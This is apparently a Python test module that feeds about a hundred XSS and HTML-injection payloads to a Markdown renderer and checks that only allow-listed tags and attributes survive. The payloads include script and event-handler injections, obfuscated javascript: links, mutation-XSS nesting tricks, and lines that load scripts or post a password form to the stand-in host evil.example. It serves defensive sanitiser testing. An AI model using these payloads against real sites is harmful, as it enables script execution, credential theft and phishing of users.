"""Markdown that tries to run something, load something or break out, and what HTML may remain of it."""

from __future__ import annotations

from html.parser import HTMLParser

from openshelf.analysis.cards import maths
from openshelf.analysis.cards.allow_list import ATTRIBUTES, EXTERNAL_REL, TAGS, VOID
from openshelf.analysis.cards.markdown import render

JS = "javascript:alert(1)"
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" >',
    "<img/src=x/onerror=alert(1)>",
    '<img src="x`y" ` onerror=alert(1)>',
    "<img src=x:y onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    f'<img src="{JS}">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="/\\evil.example/pixel.gif">',
    '<img src="\\\\evil.example/pixel.gif">',
    '<img src="/\t/evil.example/pixel.gif">',
    '<img srcset="https://evil.example/a.png 2x" src=a.png>',
    '<picture><source srcset="https://evil.example/a.png"><img src=a.png></picture>',
    "![x](https://evil.example/p.png)",
    "![x](//evil.example/p.png)",
    f"![x]({JS})",
    "![x](data:text/html;base64,AAAA)",
    '![a" onerror="alert(1)](b.png)',
    '![a](b.png "t\\" onerror=\\"alert(1)")',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<style>@import '//evil.example/x.css';</style>",
    '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
    '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<template><img src=x onerror=alert(1)></template>",
    f"[a]({JS})",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[a](&#x6A&#x61vascript:alert(1))",
    "[a](java\\\nscript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](<java&NewLine;script:alert(1)>)",
    "[a](<&#1;javascript:alert(1)>)",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://x/1)",
    "[a]: javascript:alert(1)\n\n[a]",
    f"<{JS}>",
    "<data:text/html,x>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "<a href='java\nscript:alert(1)'>x</a>",
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="x" style="position:fixed;inset:0">x</a>',
    '<a href="x" target="_blank" onclick="alert(1)" ping="//evil.example">x</a>',
    '<a id="location" name="location">x</a>',
    '<img name="getElementById" id="body" src=a.png>',
    '<div id="main" class="button danger modal" style="background:url(//evil.example)">x</div>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<form action="//evil.example"><input name=password type=password><button>Go</button></form>',
    '<input type="image" src="//evil.example/x" formaction="javascript:alert(1)">',
    '<button formaction="javascript:alert(1)">x</button>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)">',
    '<object data="javascript:alert(1)"></object><embed src="//evil.example/x.swf">',
    '<video src="//evil.example/x.mp4" onloadstart=alert(1)><source onerror=alert(1)></video>',
    "<body onload=alert(1)><html onclick=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background='javascript:alert(1)'><tr><td background='//evil.example/x'>x</table>",
    "<p>x</p></div></main></body><h1>out</h1>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php ><img src=x onerror=alert(1)>?>",
    "<a<img src=x onerror=alert(1)>",
    'http://a.example/"onmouseover=alert(1)//',
    "https://a.example/<script>alert(1)</script>",
    "www.a.example/'onclick='alert(1)",
    'x[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: note',
    "x[^<img/src=x/onerror=alert(1)>]\n\n[^<img/src=x/onerror=alert(1)>]: note",
    '[a](b "\\"><script>alert(1)</script>")',
    '```"onclick=alert(1)\nx\n```',
    '```python"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    '<pre><code class="language-html"><img src=x onerror=alert(1)></code></pre>',
    "# <img src=x onerror=alert(1)> \"heading' onclick=alert(1)",
    "$<img src=x onerror=alert(1)>$ and $$</span><script>alert(1)</script>$$",
    r"$\text{<script>alert(1)</script>}\href{javascript:alert(1)}{x}\class{a}{b}\style{c:d}{e}\color{red}{f}$",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "\ud800<img src=x onerror=alert(1)>\x00<scr\x00ipt>alert(1)</script>",
    "<img src=x\x0conerror=alert(1)>",
    "<IMG SRC=a.png ONERROR=alert(1) ONLOAD\n=\nalert(1)>",
]


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag in maths.ELEMENTS:
            self.faults += [f"{tag}[{name}]" for name, _ in attrs if name not in maths.ATTRIBUTES]
            self.open.append(tag)
            return
        if tag not in TAGS:
            self.faults.append(f"tag {tag}")
            return
        for name, value in attrs:
            if name not in ATTRIBUTES[tag]:
                self.faults.append(f"{tag}[{name}]")
            self.attribute(tag, name, value or "", given)
        if tag == "input" and not (given.get("type") == "checkbox" and "disabled" in given):
            self.faults.append("an input that takes input")
        if tag not in VOID:
            self.open.append(tag)

    def attribute(self, tag: str, name: str, value: str, given: dict[str, str | None]) -> None:
        if name == "id" and not value.startswith("user-content-"):
            self.faults.append(f"id {value}")
        if name == "src" and not value.startswith("/image/"):
            self.faults.append(f"src {value}")
        if name == "href" and not value.startswith(("/link/", "#user-content-")):
            if not value.startswith(("https://", "http://", "mailto:")):
                self.faults.append(f"href {value}")
            if given.get("rel") != EXTERNAL_REL:
                self.faults.append(f"rel of {value}")
        ours = ("hl-", "markdown-alert", "footnote", "language-", "highlight", "external-image", "note")
        if name == "class" and not all(word.startswith(ours) for word in value.split()):
            self.faults.append(f"class {value}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"unbalanced {tag}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")


def rendered(body: str) -> str:
    return render(body, link=lambda path: "/link/" + path, image=lambda path: "/image/" + path)


def faults(html: str) -> list[str]:
    """Everything in ``html`` that is not on the allow-list, and every element left open."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.faults + [f"open {tag}" for tag in reader.open]
